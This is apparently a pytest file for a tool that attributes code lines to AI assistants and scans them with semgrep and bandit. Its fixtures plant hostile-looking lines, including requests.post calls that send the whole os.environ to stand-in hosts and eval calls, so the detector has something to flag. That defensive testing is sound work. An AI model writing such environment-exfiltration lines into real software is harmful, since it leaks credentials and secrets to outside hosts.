"""Which lines an AI wrote at HEAD, and what they do: real repositories, the real engines."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import GitRepo

from gate.authored import lines as ln
from gate.authored import summary as ai_summary
from gate.authored.attribute import parse_incremental, parse_note
from gate.authored.review import review
from gate.bom import cyclonedx
from gate.cli import main
from gate.discover.assistant_catalogue import catalogue
from gate.errors import InputError
from gate.model import Inventory
from gate.pipeline import ScanOptions, scan

CLAUDE = "Co-Authored-By: Claude Opus 4.5 <noreply@anthropic.com>"
KIMI = "Assisted-by: Kimi:kimi-k2"
DATA = Path(__file__).parent / "data" / "ai_code"

pytestmark = pytest.mark.engines


def _authored(inv: Inventory, cid: str) -> dict[str, Any]:
    comp = inv.component(cid)
    assert comp is not None, [c.id for c in inv.components]
    authored: dict[str, Any] = comp.properties["assistant"]["authored"]
    return authored


def test_only_lines_the_assistant_wrote_and_that_survive_are_reviewed(git_repo: GitRepo) -> None:
    human = "import os\nimport requests\n\nrequests.get('https://h.example.org', verify=False)\n"
    git_repo.commit("base", {"app.py": human, "lib.py": "x = 1\n"})
    ai = human + "requests.post('https://c.example.cn/u', json=dict(os.environ))\nprint(2)\n"
    git_repo.commit(f"add upload\n\n{CLAUDE}\n", {"app.py": ai, "gone.py": "eval(x)\n"})
    git_repo.git("rm", "-q", "gone.py")
    git_repo.commit("human edit", {"app.py": ai.replace("print(2)", "print(3)")})
    inv = scan(ScanOptions(root=git_repo.root, history="all")).inventory
    authored = _authored(inv, "assistant:anthropic/claude-code")
    [entry] = authored["files"]
    assert entry["path"] == "app.py" and entry["model"] == "Claude Opus 4.5"
    assert entry["ranges"] == [[5, 5]] and entry["total"] == 6 and entry["sources"] == ["commit"]
    assert entry["share"] == round(1 / 6, 4)
    assert [(f["rule"], f["line"]) for f in authored["findings"]] == [
        ("semgrep:exfil-env-or-secrets-py", 5)
    ]  # the human's verify=False on line 4 is context only
    [egress] = authored["egress"]
    assert egress["host"] == "c.example.cn" and egress["country"] == "CN"
    assert egress["heuristic"] is True
    facts = inv.properties["ai_authored"]
    assert facts["lines"] == 1 and facts["files"] == 1
    assert set(facts["engines"]) == {"semgrep", "bandit"}
    # the reports' section and the BOM carry it
    text = "\n".join(ai_summary.text_lines(inv))
    assert "AI-authored code" in text and "17%  1/6  app.py" in text
    assert "semgrep:exfil-env-or-secrets-py" in text and "CN (guess: ccTLD)" in text
    assert "| `app.py` | 1/6 | 17% |" in "\n".join(ai_summary.markdown_lines(inv))
    assert "<h2>AI-authored code</h2>" in ai_summary.html(inv)
    bom = git_repo.root.parent / "bom.json"
    bom.write_text(cyclonedx.write_bom(inv, fmt="json", spec="1.6"))
    back, _ = cyclonedx.read_bom(bom)
    assert _authored(back, "assistant:anthropic/claude-code") == authored


def test_git_ai_notes_and_agent_trace_attribute_lines(git_repo: GitRepo) -> None:
    base = git_repo.commit("base", {"src/a.py": "a = 1\nb = 2\nc = 3\n", "src/b.py": "x = 1\n"})
    body = "a = 1\nb = 2\nc = 3\nd = 4\ne = 5\n"
    noted = git_repo.commit("human commit with a git-ai note", {"src/a.py": body})
    note = "src/a.py\n  d9978a8723e02b52 4-5\n---\n" + json.dumps(
        {
            "schema_version": "authorship/3.0.0",
            "base_commit_sha": base,
            "prompts": {
                "d9978a8723e02b52": {
                    "agent_id": {"tool": "cursor", "id": "s1", "model": "kimi-k2"},
                    "messages": [],
                }
            },
        }
    )
    git_repo.git("notes", "--ref=ai", "add", "-m", note, noted)
    trace_rev = git_repo.git("rev-parse", "HEAD")
    record = {
        "version": "0.1.0",
        "id": "0b5e4c1e-0000-4000-8000-000000000000",
        "timestamp": "2026-01-01T00:00:00Z",
        "vcs": {"type": "git", "revision": trace_rev},
        "tool": {"name": "claude-code"},
        "files": [
            {
                "path": "src/b.py",
                "conversations": [
                    {"contributor": {"type": "ai", "model_id": "deepseek-chat"},
                     "ranges": [{"start_line": 1, "end_line": 1}]},
                    {"contributor": {"type": "human"},
                     "ranges": [{"start_line": 1, "end_line": 1}]},
                ],
            }
        ],
    }  # fmt: skip
    git_repo.commit(
        "human: insert above",
        {"src/b.py": "import os\nx = 1\n", ".agent-trace/traces.jsonl": json.dumps(record) + "\n"},
    )
    inv = scan(ScanOptions(root=git_repo.root, history="all")).inventory
    cursor = _authored(inv, "assistant:anysphere/cursor")
    assert [(f["path"], f["model"], f["ranges"], f["sources"]) for f in cursor["files"]] == [
        ("src/a.py", "kimi-k2", [[4, 5]], ["git-ai"])
    ]
    claude = _authored(inv, "assistant:anthropic/claude-code")
    # line 1 of the trace's revision is line 2 at HEAD
    assert [(f["path"], f["model"], f["ranges"]) for f in claude["files"]] == [
        ("src/b.py", "deepseek-chat", [[2, 2]])
    ]
    comp = inv.component("assistant:anysphere/cursor")
    assert comp is not None and comp.properties["assistant"]["models"] == ["kimi-k2"]


def test_a_bad_note_or_trace_is_an_error_naming_it(git_repo: GitRepo) -> None:
    sha = git_repo.commit("x", {"a.py": "1\n"})
    git_repo.git("notes", "--ref=ai", "add", "-m", "a.py\n  abc 1\n---\n{not json", sha)
    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
    assert result.exit_code == 2
    assert "refs/notes/ai" in result.output and "not JSON" in result.output
    with pytest.raises(InputError, match="no record"):
        parse_note(
            "a.py\n  0123456789abcdef 1\n---\n"
            '{"schema_version": "authorship/3.0.0", "prompts": {}}',
            "n",
            catalogue(),
        )


def test_the_merge_and_a_rename_keep_their_lines(git_repo: GitRepo) -> None:
    git_repo.commit("init", {"f.py": "a = 1\n"})
    git_repo.git("checkout", "-q", "-b", "topic")
    git_repo.commit("topic", {"f.py": "a = 2\n"})
    git_repo.git("checkout", "-q", "main")
    git_repo.commit("main", {"f.py": "a = 3\n"})
    subprocess.run(["git", "merge", "-q", "topic"], cwd=git_repo.root, capture_output=True)
    (git_repo.root / "f.py").write_text("a = 4\nb = 5\n")
    git_repo.git("add", "f.py")
    git_repo.commit(f"Merge topic\n\n{KIMI}\n")
    inv = scan(ScanOptions(root=git_repo.root, history="all")).inventory
    [entry] = _authored(inv, "assistant:moonshot/kimi-code")["files"]
    assert entry["ranges"] == [[1, 2]] and entry["model"] == "kimi-k2"


def test_every_shipped_rule_fires_where_planted_and_only_there(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    shutil.copytree(DATA, root)
    (root / ".semgrepignore").write_text("*\n")  # the scanned tree cannot hide files
    expected: dict[tuple[str, int], set[str]] = {}
    for name in ("planted.py", "planted.ts"):
        for number, line in enumerate((root / name).read_text().splitlines(), 1):
            m = re.search(r"expect: (.*)$", line)
            expected[(name, number)] = set(m.group(1).split()) if m else set()
    expected[("CLAUDE.md", 3)] = {"assistant-rules-hidden-instruction", "egress-url"}
    expected[(".claude/settings.json", 2)] = {"assistant-base-url-override", "egress-url"}
    every = {
        p: [[1, 1000]] for p in ("planted.py", "planted.ts", "CLAUDE.md", ".claude/settings.json")
    }
    done = review(root, every)
    got: dict[tuple[str, int], set[str]] = {}
    for f in done.findings:
        rule = f.rule.removeprefix("semgrep:")
        got.setdefault((f.path, f.line), set()).add(rule)
    for e in done.egress:
        got.setdefault((e["path"], e["line"]), set()).add(e["rule"].removeprefix("semgrep:"))
    assert got == {k: v for k, v in expected.items() if v}
    # only AI lines count: the same files with one AI line report only that line
    one = review(root, {"planted.py": [[12, 12]]})
    assert {(f.line, f.rule) for f in one.findings} == {
        (12, "semgrep:dynamic-code-from-data-py"),
        (12, "bandit:B102"),
    }


def test_a_missing_engine_is_exit_2(
    git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    git_repo.commit(f"x\n\n{CLAUDE}\n", {"a.py": "eval(x)\n"})
    only_git = tmp_path / "bin"
    only_git.mkdir()
    (only_git / "git").symlink_to(shutil.which("git") or "git")
    monkeypatch.setattr("sys.executable", "/nonexistent/bin/python")
    monkeypatch.setenv("PATH", str(only_git))
    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
    assert result.exit_code == 2 and "Semgrep is not installed" in result.output


def test_blame_output_and_ranges_are_parsed_exactly() -> None:
    sha = "a" * 40
    out = (
        f'{sha} 3 1 2\nauthor A\nfilename "caf\\303\\251\\nx.py"\n{sha} 9 5 1\nfilename b.py\n'
    ).encode()
    assert parse_incremental(out, "t") == [(sha, 3, 1, 2, "café\nx.py"), (sha, 9, 5, 1, "b.py")]
    assert ln.to_ranges([5, 1, 2, 3, 9]) == [[1, 3], [5, 5], [9, 9]]
    assert ln.parse_spec("1-4,9,12-20") == [(1, 4), (9, 9), (12, 20)]
    with pytest.raises(ValueError):
        ln.parse_spec("4-1")


def test_a_users_own_rule_file_reviews_ai_lines_too(git_repo: GitRepo, tmp_path: Path) -> None:
    # Issue 18: users add their own rule files the same way as aigate's (--review-rules).
    rules = tmp_path / "ours.yaml"
    rules.write_text(
        "rules:\n"
        "  - id: no-internal-telemetry\n"
        "    languages: [python]\n"
        "    severity: ERROR\n"
        "    message: telemetry must go through our logger\n"
        "    pattern: send_telemetry(...)\n"
    )
    git_repo.commit("base", {"app.py": "x = 1\nsend_telemetry(x)\n"})
    git_repo.commit(
        f"ai\n\n{CLAUDE}\n", {"app.py": "x = 1\nsend_telemetry(x)\nsend_telemetry(2)\n"}
    )
    inv = scan(ScanOptions(root=git_repo.root, history="all", review_rules=(rules,))).inventory
    found = _authored(inv, "assistant:anthropic/claude-code")["findings"]
    assert [(f["rule"], f["line"]) for f in found] == [("semgrep:no-internal-telemetry", 3)]
    result = CliRunner().invoke(
        main, ["scan", str(git_repo.root), "--history", "all", "--review-rules", str(rules), "-q"]
    )
    assert result.exit_code == 0, result.output
    assert "no-internal-telemetry" in result.output


def test_a_hostile_trace_makes_aigate_read_nothing_outside_the_tree(
    git_repo: GitRepo, tmp_path: Path
) -> None:
    # Issue 13's principle for issue 18's inputs: a trace names files; a link in the tree
    # must not make aigate read (or review) a file outside it, and a FIFO must not hang.
    import os

    from gate import files

    secret = tmp_path / "outside" / "secret.py"
    secret.parent.mkdir()
    secret.write_text("import os\nrequests.post('https://x.example.cn', data=os.environ)\n")
    git_repo.commit("base", {"app.py": "x = 1\n"})
    os.symlink(secret.parent, git_repo.root / "linked")
    with pytest.raises(InputError, match="leads outside the scanned folder"):
        files.read_in_tree(git_repo.root, "linked/secret.py", 1 << 20)
    fifo = git_repo.root / ".agent-trace" / "traces.jsonl"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
    assert result.exit_code == 2, result.output
    assert ".agent-trace/traces.jsonl" in result.output and "FIFO" in result.output
    fifo.unlink()
    os.symlink(secret, fifo)
    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
    assert result.exit_code == 2 and "outside the scanned folder" in result.output
    assert review(git_repo.root, {"linked/secret.py": [[2, 2]]}).findings == []
